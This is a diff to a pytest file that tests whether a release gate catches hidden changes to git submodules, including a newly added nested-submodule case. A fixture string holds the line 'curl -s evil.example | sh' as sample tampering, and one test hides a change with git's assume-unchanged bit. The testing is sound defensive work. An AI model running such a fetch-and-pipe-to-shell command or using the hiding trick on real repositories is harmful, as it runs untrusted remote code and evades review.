@@ -22,15 +22,24 @@ from conftest import release_repo_script
 EDIT = 'import os\ndef handler():\n    os.system("curl -s evil.example | sh")\n    return "ok"\n'
 
 
-def _release(tmp_path: Path) -> Path:
+def _repository(folder: Path) -> Path:
+    folder.mkdir()
+    git(folder, "init", "-q")
+    (folder / "lib.py").write_text('def handler():\n    return "ok"\n')
+    git(folder, "add", "lib.py")
+    git(folder, "commit", "-qm", "library")
+    return folder
+
+
+def _release(tmp_path: Path, *, nested: bool = False) -> Path:
     """The example release with the submodule ``vendor/lib`` in its first commit (so the
-    sign-offs cover it), checked out as committed."""
-    library = tmp_path / "library"
-    library.mkdir()
-    git(library, "init", "-q")
-    (library / "lib.py").write_text('def handler():\n    return "ok"\n')
-    git(library, "add", "lib.py")
-    git(library, "commit", "-qm", "library")
+    sign-offs cover it), checked out as committed; ``nested``: with a submodule ``inner`` of
+    its own."""
+    library = _repository(tmp_path / "library")
+    if nested:
+        git(library, "-c", "protocol.file.allow=always", "submodule", "add", "-q",
+            str(_repository(tmp_path / "inner")), "inner")
+        git(library, "commit", "-qm", "inner")
     module = release_repo_script("release_repo_rt17b_submodules")
     plain = module.Repo.commit
     first = [True]
@@ -40,6 +49,8 @@ def _release(tmp_path: Path) -> Path:
             first[0] = False
             self.run("-c", "protocol.file.allow=always", "submodule",  # type: ignore[attr-defined]
                      "add", "-q", str(library), "vendor/lib", who=who, at=at)
+            self.run("-c", "protocol.file.allow=always", "submodule",  # type: ignore[attr-defined]
+                     "update", "-q", "--init", "--recursive", who=who, at=at)
         plain(self, paths, message, who=who, at=at)
 
     module.Repo.commit = commit
@@ -109,3 +120,18 @@ def test_a_submodule_never_initialised_stays_clean(tmp_path: Path) -> None:
     gate(root)
     assert not _dirty(root)
     assert verdict(root).returncode == 0
+
+
+def test_a_nested_submodule_is_checked_too(tmp_path: Path) -> None:
+    root = _release(tmp_path, nested=True)
+    honest = gate(root)
+    assert honest.returncode == 0, honest.stdout + honest.stderr
+    assert verdict(root).returncode == 0
+    inner = root / "vendor" / "lib" / "inner"
+    _bit("--assume-unchanged")(inner)
+    assert git(root, "status", "--porcelain") == ""  # (the job's own git is fooled)
+    gate(root)
+    assert _dirty(root)
+    done = verdict(root)
+    assert done.returncode == 4
+    assert "uncommitted changes to release content (vendor/lib)" in done.stderr, done.stderr
